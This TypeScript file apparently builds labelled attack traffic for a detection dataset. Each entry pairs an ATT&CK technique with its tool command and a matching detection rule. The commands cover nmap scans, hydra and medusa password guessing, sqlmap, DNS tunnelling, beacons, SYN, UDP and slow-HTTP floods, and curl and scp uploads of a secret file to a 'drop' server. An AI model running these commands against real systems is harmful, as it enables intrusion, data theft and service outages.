/**
 * The table of attacks: the host that makes each, its tool, its time, and the rule that finds its
 * connections.
 */
import { nameWords } from '../chance/host-names';
import type { Random } from '../chance/random';
import { args } from '../clients/args';
import { debian, need, type Program } from '../run/program';
import type { Run } from '../run/run-command';
import { python, shell } from '../run/sources';
import { type OfficeFiles, sshUser } from './files';
import { attackers, servers, tunnelZones } from './hosts';
import {
  agent,
  banner,
  flooded,
  generatedName,
  pinged,
  portTried,
  portTriedOrAnyTo,
  type Rule,
  silentTo,
  toItsServer,
  toWebByNoneOfPeoples,
  zone,
} from './rules';
import { opensshOptions } from './ssh-options';

export const attackSets = ['first', 'second', 'third'] as const;
export type AttackSet = (typeof attackSets)[number];

export interface Attack {
  readonly set: AttackSet;
  /** The share of the recording after which it begins. */
  readonly at: number;
  readonly name: string;
  /** Its technique's number in MITRE ATT&CK (attack.mitre.org). */
  readonly technique: string;
  readonly tool: Program;
  /** The host that makes it, and its target: an address, a port, a network or a zone. */
  readonly from: string;
  readonly to: string;
  /** Returns the run of the tool for the `time`th time, from 0. */
  readonly run: (files: OfficeFiles, time: number, names: readonly string[]) => Run;
  /** If it runs more than once: how often in a recording, the seconds between two runs, and the share by which these vary. */
  readonly repeat?: {
    readonly times: (minutes: number) => number;
    readonly every: number;
    readonly jitter: number;
  };
  /** The names that its generator makes, if it has one. */
  readonly names?: (random: Random) => string[];
  readonly rule: Rule;
}

const { dns, files, intra, log, mail } = servers;
const { beacon, drop } = attackers;

/** The user agent of a browser, which path guessing sends as its own on the second day. */
const BORROWED_AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0';
const WINDOWS_AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';
const TUNNEL_KEY = 'k3y';

const nmap = debian('nmap');
const hydra = debian('hydra');
const curl = debian('curl');
const gobuster = debian('gobuster');
const slowhttptest = debian('slowhttptest');
const hping3 = debian('/usr/sbin/hping3', 'hping3');
const scp = debian('scp', 'openssh-client');
const sweeper = python('office/programs/sweep.py');
const resolver = python('office/programs/resolve_names.py');
const dns2tcp = shell(
  'office/programs/dns2tcp-tunnel.sh',
  need('dns2tcpc', 'dns2tcp'),
  need('scp', 'openssh-client'),
);
const iodine = shell(
  'office/programs/iodine-tunnel.sh',
  need('/usr/sbin/iodine', 'iodine'),
  need('ping', 'iputils-ping'),
  need('curl'),
);

/** Repeat something in nine tenths of a recording. */
const throughout = (every: number, jitter: number) => ({
  times: (minutes: number) => Math.max(1, Math.floor((minutes * 60 * 0.9) / every)),
  ...{ every, jitter },
});
const some = (count: number, every: number, jitter = 0.3) => ({
  ...{ times: () => count, every, jitter },
});

const top = (random: Random): string => random.pick(['example', 'test']);
const namesOf = (count: number, label: (random: Random) => string) => (random: Random) =>
  Array.from({ length: count }, () => `${label(random)}.${top(random)}`);
const LETTERS = 'abcdefghijklmnopqrstuvwxyz';

/** Names on standard input, and the mean wait between two of them, in seconds. */
const resolveThem: Attack['run'] = (_, __, names) => ({
  args: ['0.33'],
  input: names.map((name) => `${name}\n`).join(''),
  seconds: 200,
});

/**
 * Name, technique, host and target together are different in every row. They identify the row of a line of
 * attacks.jsonl.
 */
export const attacks: readonly Attack[] = [
  {
    ...{ set: 'first', at: 0.05, name: 'beacon-http', technique: 'T1071.001', tool: curl },
    ...{ from: 'c7', to: `${beacon.address}:80`, repeat: throughout(20, 0.2), rule: toItsServer },
    run: (_, time) => ({
      args: args`-s -o got -A ${WINDOWS_AGENT} http://${beacon.name}/s?id=7f3a&n=${time}`,
    }),
  },
  {
    ...{ set: 'first', at: 0.1, name: 'port-scan', technique: 'T1046', tool: nmap },
    ...{ from: 'c9', to: files, rule: portTried('tcp') },
    run: () => ({
      args: args`-n -Pn -sS --top-ports 800 -T4 ${files} ${intra} ${mail}`,
      seconds: 300,
    }),
  },
  {
    ...{ set: 'first', at: 0.17, name: 'sweep', technique: 'T1018', tool: nmap },
    ...{ from: 'c9', to: '10.20.0.0/24', rule: portTried('tcp') },
    run: () => ({
      args: args`
        -n -Pn -sS -p 22,445,3389 --max-rate 60 --max-retries 0 10.20.0.0/24 10.20.1.0/25`,
      seconds: 300,
    }),
  },
  {
    ...{ set: 'first', at: 0.27, name: 'ssh-guessing', technique: 'T1110.001', tool: hydra },
    ...{ from: 'c9', to: `${files}:22`, rule: banner(/libssh/) },
    run: ({ passwords }) => ({
      args: args`-q -I -t 4 -l admin -P ${passwords} ssh://${files}`,
      seconds: 200,
    }),
  },
  {
    ...{ set: 'first', at: 0.4, name: 'dns-tunnel', technique: 'T1071.004', tool: dns2tcp },
    ...{ from: 'c8', to: tunnelZones.first, rule: zone },
    run: ({ key, www }) => ({
      args: [tunnelZones.first, dns, TUNNEL_KEY, key, `${www}/f9.png`],
      seconds: 150,
    }),
  },
  {
    ...{ set: 'first', at: 0.55, name: 'dga', technique: 'T1568.002', tool: resolver },
    ...{ from: 'c7', to: '*.dga', rule: generatedName, run: resolveThem },
    names: namesOf(250, (random) => random.text(11 + random.integer(9), LETTERS)),
  },
  {
    ...{ set: 'first', at: 0.63, name: 'path-guessing', technique: 'T1595.003', tool: gobuster },
    ...{ from: 'c9', to: `${intra}:80`, rule: agent(/gobuster/) },
    run: ({ paths }) => ({ args: args`dir -q -u http://${intra}/ -w ${paths} -t 6`, seconds: 300 }),
  },
  {
    ...{ set: 'first', at: 0.7, name: 'sql-injection', technique: 'T1190' },
    ...{ from: 'c9', to: `${intra}:80`, rule: agent(/sqlmap/), tool: debian('sqlmap') },
    run: () => ({
      args: args`
        -u http://${intra}/api/v1/items?id=1 --batch --level 1 --flush-session --output-dir sqlmap`,
      seconds: 120,
    }),
  },
  {
    ...{ set: 'first', at: 0.78, name: 'exfiltration', technique: 'T1048.003', tool: curl },
    ...{ from: 'c7', to: `${drop.address}:80`, repeat: some(6, 15), rule: toItsServer },
    run: ({ secret }, time) => ({
      args: args`-s -o got -T ${secret} http://${drop.name}/in/${time}`,
      seconds: 60,
    }),
  },
  {
    ...{ set: 'first', at: 0.86, name: 'slow-http', technique: 'T1499.002', tool: slowhttptest },
    ...{ from: 'c10', to: `${intra}:80`, rule: toWebByNoneOfPeoples },
    run: () => ({ args: args`-c 150 -H -i 5 -r 40 -l 45 -u http://${intra}/`, seconds: 80 }),
  },
  {
    ...{ set: 'first', at: 0.94, name: 'syn-flood', technique: 'T1498.001', tool: hping3 },
    ...{ from: 'c10', to: `${intra}:443`, rule: silentTo(443) },
    run: () => ({ args: args`-q -S -p 443 -c 1500 -i u2000 ${intra}`, seconds: 30 }),
  },

  {
    ...{ set: 'second', at: 0.04, name: 'beacon-https', technique: 'T1071.001' },
    ...{ from: 'c3', to: `${beacon.address}:443`, repeat: throughout(45, 0.5), rule: toItsServer },
    tool: debian('wget'),
    run: (_, time) => ({
      args: args`-q -O got --no-check-certificate https://${beacon.name}/u/${time % 7}`,
      seconds: 60,
    }),
  },
  {
    ...{ set: 'second', at: 0.08, name: 'port-scan', technique: 'T1046', tool: nmap },
    ...{ from: 'c5', to: mail, rule: portTriedOrAnyTo(mail, dns, log) },
    run: () => ({
      args: args`
        -n -Pn -sT -sV --version-light --top-ports 300 -T3 ${mail} ${dns} ${log}`,
      seconds: 300,
    }),
  },
  {
    ...{ set: 'second', at: 0.18, name: 'udp-scan', technique: 'T1046', tool: nmap },
    ...{ from: 'c5', to: files, rule: portTried('udp') },
    run: () => ({
      args: args`-n -Pn -sU --top-ports 60 -T4 --max-retries 1 ${files} ${intra}`,
      seconds: 200,
    }),
  },
  {
    ...{ set: 'second', at: 0.3, name: 'sweep', technique: 'T1018', tool: sweeper },
    ...{ from: 'c6', to: '10.20.1.0/24', rule: portTried('tcp') },
    run: () => ({ args: args`10.20.1. 1 119 0.25 445 3389`, seconds: 300 }),
  },
  {
    ...{ set: 'second', at: 0.38, name: 'http-guessing', technique: 'T1110.001', tool: hydra },
    ...{ from: 'c5', to: `${intra}:80`, rule: agent(/Hydra/) },
    run: ({ passwords }) => ({
      args: args`-q -I -t 4 -l admin -P ${passwords} ${intra} http-get /admin/`,
      seconds: 120,
    }),
  },
  {
    ...{ set: 'second', at: 0.46, name: 'dns-tunnel', technique: 'T1048', tool: iodine },
    ...{ from: 'c2', to: tunnelZones.second, rule: zone },
    run: ({ www }) => ({
      args: [tunnelZones.second, dns, TUNNEL_KEY, 'TXT', `${www}/f9.png`],
      seconds: 170,
    }),
  },
  {
    ...{ set: 'second', at: 0.58, name: 'dga', technique: 'T1568.002', tool: resolver },
    ...{ from: 'c3', to: '*.dga', rule: generatedName, run: resolveThem },
    names: namesOf(180, (random) => [1, 2, 3].map(() => random.pick(nameWords)).join('')),
  },
  {
    ...{ set: 'second', at: 0.66, name: 'path-guessing', technique: 'T1595.003', tool: gobuster },
    ...{ from: 'c6', to: `${intra}:80`, rule: agent(/rv:115\.0/) },
    run: ({ paths }) => ({
      args: args`
        dir -q -a ${BORROWED_AGENT} -u http://${intra}/ -w ${paths} -t 1 --delay 80ms`,
      seconds: 120,
    }),
  },
  {
    ...{ set: 'second', at: 0.76, name: 'exfiltration', technique: 'T1048.001', tool: scp },
    ...{ from: 'c3', to: `${drop.address}:22`, repeat: some(3, 30), rule: toItsServer },
    run: ({ secret, key, uploads }, time) => ({
      args: args`
        -q ${opensshOptions(key)} ${secret} ${sshUser}@${drop.address}:${uploads}/x${time}`,
      seconds: 60,
    }),
  },
  {
    ...{ set: 'second', at: 0.88, name: 'slow-http', technique: 'T1499.002', tool: slowhttptest },
    ...{ from: 'c6', to: `${intra}:80`, rule: toWebByNoneOfPeoples },
    run: () => ({
      args: args`
        -c 80 -X -r 20 -w 10 -y 20 -n 5 -z 32 -k 3 -l 60 -u http://${intra}/f5.bin`,
      seconds: 90,
    }),
  },

  {
    ...{ set: 'third', at: 0.03, name: 'beacon-dns', technique: 'T1071.004' },
    ...{ from: 'c4', to: 'q.metrics-edge.example', repeat: throughout(30, 0.4), rule: zone },
    tool: debian('dig', 'bind9-dnsutils'),
    run: (_, time) => ({ args: args`+tries=1 +time=2 TXT n${time}.q.metrics-edge.example` }),
  },
  {
    ...{ set: 'third', at: 0.1, name: 'sweep', technique: 'T1018', tool: debian('fping') },
    ...{ from: 'c1', to: '10.20.1.0/24', rule: pinged },
    run: () => ({ args: args`-q -r 0 -i 40 -g 10.20.1.0/24`, seconds: 60 }),
  },
  {
    ...{ set: 'third', at: 0.18, name: 'port-scan', technique: 'T1046', tool: nmap },
    ...{ from: 'c1', to: intra, rule: portTried('tcp') },
    run: () => ({ args: args`-n -Pn -sF -F -T2 --max-scan-delay 60ms ${intra}`, seconds: 120 }),
  },
  {
    ...{ set: 'third', at: 0.3, name: 'ssh-guessing', technique: 'T1110.001' },
    ...{ from: 'c1', to: `${intra}:22`, rule: banner(/libssh2|MEDUSA/) },
    tool: debian('medusa'),
    run: ({ passwords }) => ({
      args: args`-h ${intra} -u admin -P ${passwords} -M ssh -t 2`,
      seconds: 150,
    }),
  },
  {
    ...{ set: 'third', at: 0.42, name: 'dns-tunnel', technique: 'T1048', tool: iodine },
    ...{ from: 'c8', to: tunnelZones.third, rule: zone },
    run: ({ www }) => ({
      args: [tunnelZones.third, dns, TUNNEL_KEY, 'CNAME', `${www}/f9.png`],
      seconds: 170,
    }),
  },
  {
    ...{ set: 'third', at: 0.54, name: 'dga', technique: 'T1568.002', tool: resolver },
    ...{ from: 'c4', to: '*.dga', rule: generatedName, run: resolveThem },
    names: namesOf(140, (random) => random.text(8 + random.integer(9), '0123456789abcdef')),
  },
  {
    ...{ set: 'third', at: 0.64, name: 'path-guessing', technique: 'T1595.003' },
    ...{ from: 'c2', to: `${intra}:80`, rule: agent(/Fuzz Faster/), tool: debian('ffuf') },
    run: ({ paths }) => ({
      args: args`-s -w ${paths} -u http://${intra}/FUZZ -t 3 -p 0.1`,
      seconds: 120,
    }),
  },
  {
    ...{ set: 'third', at: 0.76, name: 'exfiltration', technique: 'T1048.002', tool: curl },
    ...{ from: 'c4', to: `${drop.address}:443`, repeat: some(4, 20), rule: toItsServer },
    run: ({ secret }, time) => ({
      args: args`-s -k -o got -T ${secret} https://${drop.name}/in/${time}`,
      seconds: 60,
    }),
  },
  {
    ...{ set: 'third', at: 0.86, name: 'slow-http', technique: 'T1499.002', tool: slowhttptest },
    ...{ from: 'c5', to: `${intra}:80`, rule: toWebByNoneOfPeoples },
    run: () => ({
      args: args`-c 90 -B -i 6 -r 30 -s 4096 -x 16 -l 45 -u http://${intra}/api/v1/save`,
      seconds: 80,
    }),
  },
  {
    ...{ set: 'third', at: 0.95, name: 'udp-flood', technique: 'T1498.001', tool: hping3 },
    ...{ from: 'c10', to: `${log}:5140`, rule: flooded },
    run: () => ({ args: args`-q --udp -p 5140 -d 64 -c 1500 -i u2000 ${log}`, seconds: 30 }),
  },
];
